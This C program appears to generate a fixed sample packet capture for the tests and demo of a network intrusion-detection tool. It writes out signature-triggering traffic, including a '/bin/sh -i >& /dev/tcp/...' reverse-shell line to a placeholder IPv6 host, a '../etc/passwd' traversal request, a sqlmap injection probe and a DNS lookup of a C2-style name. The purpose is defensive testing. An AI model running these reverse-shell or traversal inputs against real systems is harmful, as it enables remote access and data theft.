/*
 * make_sample.c - writes tests/data/sample.pcap, the capture the README's
 * demo runs on: small-office traffic in which each shipped signature fires
 * once, plus benign sessions, a VLAN-tagged session, IPv6, one traceroute
 * probe with TTL 1 (for the example plugin), one truncated frame (counted
 * as a decoder event, not an alert), and for the protocol plugins a TLS
 * session to a paste site and a DNS query for a mining pool.
 *
 *   make_sample OUT.pcap
 *
 * The output is a pure function of this file, so a test regenerates it and
 * compares it with the shipped copy.
 */
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>

#include "pcapgen.h"
#include "tls_hello.h"

#define CLIENT	"198.18.0.10"
#define SERVER	"198.18.1.80"
#define OUTSIDE "198.19.7.7"

static void http_session(struct pcapgen *g, const char *cli, uint16_t cport, const char *srv,
			 uint16_t sport, const char *req, const char *resp, uint16_t vlan)
{
	struct pg_tcp s;

	pg_tcp_init(&s, g, cli, cport, srv, sport);
	if (vlan) {
		s.vlan[0] = vlan;
		s.n_vlan = 1;
	}
	pg_tcp_handshake(&s);
	pg_tcp_send(&s, PG_TO_SERVER, req, strlen(req));
	pg_tcp_send(&s, PG_TO_CLIENT, resp, strlen(resp));
	pg_tcp_close(&s);
}

static void dns_query(struct pcapgen *g, uint16_t id, const char *qname_wire, size_t qlen)
{
	uint8_t msg[256] = {(uint8_t)(id >> 8), (uint8_t)id, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};

	memcpy(msg + 12, qname_wire, qlen);
	memcpy(msg + 12 + qlen, "\x00\x01\x00\x01", 4);
	pg_udp(g, CLIENT, 53000 + id % 100, "198.18.0.53", 53, msg, 12 + qlen + 4);
}

static void ftp_session(struct pcapgen *g)
{
	struct pg_tcp s;

	pg_tcp_init(&s, g, CLIENT, 50021, SERVER, 21);
	pg_tcp_handshake(&s);
	pg_tcp_send(&s, PG_TO_CLIENT, "220 ready\r\n", 11);
	pg_tcp_send(&s, PG_TO_SERVER, "USER demo\r\n", 11);
	pg_tcp_send(&s, PG_TO_CLIENT, "331 password please\r\n", 21);
	pg_tcp_send(&s, PG_TO_SERVER, "PASS hunter2\r\n", 14);
	pg_tcp_send(&s, PG_TO_CLIENT, "230 logged in\r\n", 15);
	pg_tcp_close(&s);
}

static void ipv6_shell(struct pcapgen *g)
{
	struct pg_tcp s;
	const char *cmd = "echo hi; /bin/sh -i >& /dev/tcp/2001:db8:2::20/4444 0>&1\n";

	pg_tcp_init(&s, g, "2001:db8:2::20", 4444, "2001:db8:1::10", 34512);
	pg_tcp_handshake(&s);
	pg_tcp_send(&s, PG_TO_SERVER, cmd, strlen(cmd));
	pg_tcp_close(&s);
}

static void icmp_echo(struct pcapgen *g, const char *marker, int reply)
{
	char data[56];
	struct pg_pkt p = {.src = OUTSIDE, .dst = SERVER, .proto = IPPROTO_ICMP, .icmp_type = 8};

	memset(data, 'x', sizeof(data));
	memcpy(data, marker, strlen(marker));
	p.payload = data;
	p.len = sizeof(data);
	pg_packet(g, &p);
	if (!reply)
		return;
	p.src = SERVER, p.dst = OUTSIDE, p.icmp_type = 0;
	pg_packet(g, &p);
}

static void traceroute_probe(struct pcapgen *g)
{
	struct pg_pkt p = {.src = CLIENT,
			   .dst = OUTSIDE,
			   .sport = 40001,
			   .dport = 33434,
			   .proto = IPPROTO_UDP,
			   .ttl = 1,
			   .payload = "@ABCDEFGHIJKLMNO",
			   .len = 16};

	pg_packet(g, &p);
}

static void truncated_frame(struct pcapgen *g)
{
	uint8_t frame[PG_MAX_FRAME];
	struct pg_pkt p = {.src = CLIENT,
			   .dst = SERVER,
			   .sport = 40002,
			   .dport = 80,
			   .proto = IPPROTO_TCP,
			   .tcp_flags = 0x18,
			   .payload = "cut short",
			   .len = 9};
	size_t n = pg_build(g, &p, frame, sizeof(frame));

	/* Captured without its last 20 bytes: the IP header claims more. */
	pg_write(g, frame, n - 20);
}

static void tls_session(struct pcapgen *g)
{
	static uint8_t body[2048], hs[2048], records[2100];
	struct th_spec spec = th_foxio(false, "pastebin.com");
	struct pg_tcp s;
	size_t n;

	pg_tcp_init(&s, g, CLIENT, 49300, "198.19.8.8", 443);
	pg_tcp_handshake(&s);
	n = th_handshake(1, body, th_client_hello(&spec, body), hs);
	n = th_records(hs, n, 16384, records);
	pg_tcp_send(&s, PG_TO_SERVER, records, n);
	n = th_handshake(2, body, th_server_hello(0x0303, 0x1301, 0x0304, body), hs);
	n = th_records(hs, n, 16384, records);
	pg_tcp_send(&s, PG_TO_CLIENT, records, n);
	pg_tcp_close(&s);
}

int main(int argc, char **argv)
{
	struct pcapgen g;
	static const char resp_ok[] = "HTTP/1.1 200 OK\r\nContent-Length: 12\r\n\r\nhello world\n";

	if (argc != 2) {
		fprintf(stderr, "usage: make_sample OUT.pcap\n");
		return 1;
	}
	pg_open(&g, argv[1], 1);
	http_session(&g, CLIENT, 49152, SERVER, 80,
		     "GET /index.html HTTP/1.1\r\nHost: intranet.example\r\n\r\n", resp_ok, 0);
	dns_query(&g, 1,
		  "\x08intranet\x07"
		  "example",
		  18);
	http_session(&g, CLIENT, 49153, SERVER, 80,
		     "GET /cgi-bin/id.cgi HTTP/1.1\r\nHost: intranet.example\r\n\r\n",
		     "HTTP/1.1 200 OK\r\nContent-Length: 39\r\n\r\nuid=0(root) gid=0(root) "
		     "groups=0(root)\n",
		     0);
	http_session(&g, OUTSIDE, 51000, SERVER, 8080,
		     "GET /item.php?id=1%27 HTTP/1.1\r\nHost: shop.example\r\n"
		     "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n",
		     "HTTP/1.1 500 Internal Server Error\r\nContent-Length: 0\r\n\r\n", 0);
	http_session(
		&g, OUTSIDE, 51001, SERVER, 80,
		"GET /static/../../../../etc/passwd HTTP/1.1\r\nHost: intranet.example\r\n\r\n",
		"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n", 0);
	dns_query(&g, 2,
		  "\x0aMalware-C2\x07"
		  "example\x03"
		  "com",
		  24);
	ftp_session(&g);
	ipv6_shell(&g);
	icmp_echo(&g, "PINGFLOOD", 0);
	icmp_echo(&g, "ordinary ping", 1);
	http_session(&g, "198.18.0.11", 49200, SERVER, 80,
		     "GET /tagged HTTP/1.1\r\nHost: intranet.example\r\n\r\n", resp_ok, 100);
	traceroute_probe(&g);
	truncated_frame(&g);
	tls_session(&g);
	dns_query(&g, 3,
		  "\x04pool\x0asupportxmr\x03"
		  "com",
		  21);
	pg_close(&g);
	printf("%s: %llu frames\n", argv[1], (unsigned long long)g.frames);
	return 0;
}
